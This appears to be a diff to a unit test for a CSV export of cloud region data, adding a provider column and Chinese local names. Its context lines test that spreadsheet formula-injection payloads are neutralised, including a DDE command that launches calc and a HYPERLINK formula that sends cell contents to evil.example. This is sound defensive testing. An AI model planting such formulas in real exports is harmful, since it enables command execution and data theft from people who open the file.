@@ -76,8 +76,16 @@ describe('published data', () => {
     expect(lines[1]).toBe(
       'tricky,eu-central-1,"Germany, ""Frankfurt""",Frankfurt,DE,50.11,8.68,city,3,opened,2016-11,' +
         '"first, in Europe","A report (Example News, 2020-01-01) https://example.org/news",on,,public,,,' +
-        '欧洲首个，“法兰克福”,2026-12-06',
+        '欧洲首个，“法兰克福”,2026-12-06,alibaba,',
     );
+    // Another provider's region says whose it is, and its Chinese name the map's translation.
+    const peer = {
+      ...tricky,
+      id: 'aws-x',
+      provider: 'aws' as const,
+      localNames: { 'zh-CN': '某地' },
+    };
+    expect(toCsv([peer], V).split('\r\n')[1]!.endsWith(`,${V},aws,某地`)).toBe(true);
     // The quote's newline stays inside one quoted cell, so a CSV reader sees two data rows.
     expect(toCsv([tricky], V).match(/^tricky,/gm)).toHaveLength(2);
     expect(lines.at(-1)).toBe('');
@@ -103,7 +111,7 @@ describe('published data', () => {
     expect(row).toContain(`,"'@SUM(1+1)*cmd|"" /C calc""!A0","'+Frankfurt",DE,50.11,-8.68,`);
     expect(row).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click for sources"")",`);
     // The Chinese note, before the version, is quoted the same way.
-    expect(row.endsWith(`,"'-1+1",${V}`)).toBe(true);
+    expect(row.endsWith(`,"'-1+1",${V},alibaba,`)).toBe(true);
     for (const start of ['-', '\t', '\r']) {
       const cell = toCsv([{ ...tricky, city: `${start}x` }], V)
         .split('\r\n')
